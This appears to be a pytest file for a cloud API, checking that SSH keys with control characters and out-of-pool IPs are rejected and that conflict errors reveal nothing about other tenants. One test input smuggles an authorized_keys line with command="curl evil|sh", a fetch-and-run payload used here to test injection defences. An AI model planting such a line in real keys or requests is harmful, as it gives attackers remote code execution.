"""What a tenant sends stays inside its bounds: ssh keys, explicit IPs."""

from __future__ import annotations

import pytest

ED25519 = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@laptop"
)


def _member(cloud, project="p1", name="alice", role="member"):
    if not any(p["name"] == project for p in cloud.ok("GET", "/projects")):
        cloud.ok("POST", "/projects", json={"name": project})
    return cloud.ok("POST", "/users", json={"name": name, "project": project, "role": role})[
        "token"
    ]


@pytest.mark.parametrize(
    "key",
    [
        ED25519 + '\ncommand="curl evil|sh" ' + ED25519,
        ED25519 + "\r" + ED25519,
        ED25519 + "\n",
        "ssh-ed25519\tAAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",
        ED25519 + "\x00",
        ED25519.replace("ops@", "ops\x1b[2J@"),
        ED25519 + "\u2028" + ED25519,
        ED25519 + "\x85x",
    ],
)
def test_an_ssh_key_with_a_control_character_is_422(cloud, key):
    cloud.catalog()
    cloud.register("h1")
    r = cloud.create("box", token=_member(cloud), ssh_keys=[key])
    assert r.status_code == 422, r.text
    assert "ssh_keys.0" in r.json()["detail"] and "one key per entry" in r.json()["detail"]
    assert cloud.ok("GET", "/instances") == []


def test_one_clean_key_per_entry_is_accepted(cloud):
    cloud.catalog()
    cloud.register("h1")
    r = cloud.create("box", token=_member(cloud), ssh_keys=[ED25519, "  " + ED25519 + "  "])
    assert r.status_code == 202, r.text
    assert r.json()["ssh_keys"] == [ED25519, ED25519]


@pytest.mark.parametrize("who", ["member", "admin"])
@pytest.mark.parametrize(
    "ip,says",
    [
        ("198.18.0.1", "gateway"),
        ("198.18.0.2", "outside the allocation pools"),  # a router, a host
        ("198.18.0.9", "outside the allocation pools"),
        ("198.18.0.251", "outside the allocation pools"),
        ("198.18.0.254", "outside the allocation pools"),
    ],
)
def test_an_explicit_ip_outside_the_pools_is_409(cloud, who, ip, says):
    cloud.catalog(pool_end="198.18.0.250")
    cloud.register("h1")
    token = _member(cloud) if who == "member" else None
    r = cloud.create("box", token=token, ip=ip)
    assert r.status_code == 409, r.text
    assert says in r.json()["detail"], r.text
    if "pools" in says:
        assert "198.18.0.10-198.18.0.250" in r.json()["detail"]
    assert cloud.ok("GET", "/instances") == []
    assert cloud.create("box", token=token, ip="198.18.0.250").status_code == 202


def test_a_taken_ip_409_does_not_say_whose_it_is(cloud):
    cloud.catalog()
    cloud.register("h1")
    bob = _member(cloud, "secret-project", "bob")
    assert cloud.create("secret-db", token=bob, ip="198.18.0.77").status_code == 202
    r = cloud.create("mine", token=_member(cloud), ip="198.18.0.77")
    assert r.status_code == 409
    detail = r.text
    assert "in use" in r.json()["detail"]
    for secret in ("secret", "bob", "instance", "project"):
        assert secret not in detail, detail
